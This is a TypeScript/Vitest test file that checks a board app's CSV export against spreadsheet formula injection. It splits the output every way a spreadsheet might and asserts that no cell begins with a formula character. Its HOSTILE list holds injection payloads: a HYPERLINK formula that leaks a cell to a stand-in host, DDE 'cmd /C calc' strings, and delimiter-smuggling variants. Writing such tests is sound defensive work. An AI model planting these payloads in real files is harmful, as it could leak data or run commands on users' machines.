/**
 * CSV cells a spreadsheet could run as formulas: however the file is split into
 * cells (commas, another locale's semicolons, pasted tabs, line breaks, pipes), no
 * cell starts with a formula character, and each text reads as it was written.
 */
import { addCard, addOpportunity, createBoard, readBoard } from '@journeyboard/shared';
import { describe, expect, it } from 'vitest';
import * as Y from 'yjs';
import { parseCsv } from '../../test/support/csv.js';
import { frictionCsv, opportunitiesCsv } from '../src/export/csv.js';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '   =1+1',
  '\u00a0=1+1',
  'fine; =cmd|" /C calc"!A0',
  'fine;=cmd',
  'fine,=cmd',
  'fine\t@cmd',
  'fine|=cmd',
  'first line\n=2*2',
  'first line\r\n+2',
  'quote"=cmd',
  '\uff1dSUM(1)',
  'plain text, with a comma; and a semicolon - and a dash',
];

function boardWithTexts(texts: string[]) {
  const doc = new Y.Doc();
  createBoard(doc, { title: 'CSV', template: 'blank-journey' });
  const board = readBoard(doc);
  const lane = board.lanes.find((l) => l.kind === 'friction');
  if (!lane) throw new Error('the template has a friction lane');
  const cards = texts.map((text) =>
    addCard(doc, {
      stageId: board.stages[0]!.id,
      laneId: lane.id,
      text,
      friction: { severity: 3, rootCause: text },
    }),
  );
  for (const text of texts)
    addOpportunity(doc, { title: text, impact: 3, effort: 2, frictionIds: cards.slice(0, 1) });
  return readBoard(doc);
}

/** Every fragment a spreadsheet could take for a cell: our cells split at anything that could split them. */
function fragments(csv: string): string[] {
  return csv.split(/[,;|\t\r\n"]/).map((f) => f.replace(/^[ \u00a0]+/, ''));
}

describe('CSV cells', () => {
  const board = boardWithTexts(HOSTILE.filter((t) => t.trim()));

  it('start no cell with a formula character, however the file is split', () => {
    for (const csv of [frictionCsv(board), opportunitiesCsv(board)]) {
      const starts = fragments(csv.replace(/^\uFEFF/, '')).filter((f) =>
        /^[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(f),
      );
      // Numbers are the one exception: a negative score is a number, not text.
      expect(starts.filter((f) => !/^-?\d+(\.\d+)?$/.test(f))).toEqual([]);
    }
  });

  it('keep the words: only apostrophes are added', () => {
    const cells = parseCsv(frictionCsv(board)).flat();
    for (const card of board.cards) {
      const kept = cells.filter((c) => c.replace(/'/g, '') === card.text.replace(/'/g, ''));
      expect(kept.length, card.text).toBeGreaterThan(0);
    }
    expect(cells).toContain('plain text, with a comma; and a semicolon - and a dash');
  });
});

/** Our CSV read back the RFC 4180 way (quoted cells with doubled quotes, CRLF rows). */
